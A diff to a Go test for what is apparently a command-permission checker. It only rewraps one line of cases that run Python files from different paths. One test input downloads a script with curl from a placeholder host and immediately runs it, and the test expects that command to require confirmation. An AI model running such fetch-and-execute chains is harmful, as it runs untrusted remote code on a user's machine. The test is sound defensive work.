@@ -285,7 +285,8 @@ func TestReadingCodeIsRunningIt(t *testing.T) {
 	}
 	for _, spelling := range spellings {
 		g.expect(t, Allow, fmt.Sprintf(spelling, "f.py"))
-		g.expect(t, Ask, fmt.Sprintf(spelling, "/tmp/f.py"), fmt.Sprintf(spelling, root+"/home/dev/x/f.py"),
+		g.expect(t, Ask, fmt.Sprintf(spelling, "/tmp/f.py"),
+			fmt.Sprintf(spelling, root+"/home/dev/x/f.py"),
 			"curl -so f.py https://x.example/ && "+fmt.Sprintf(spelling, "f.py"))
 	}
 	// What is made of the text is no file, and neither is a text.
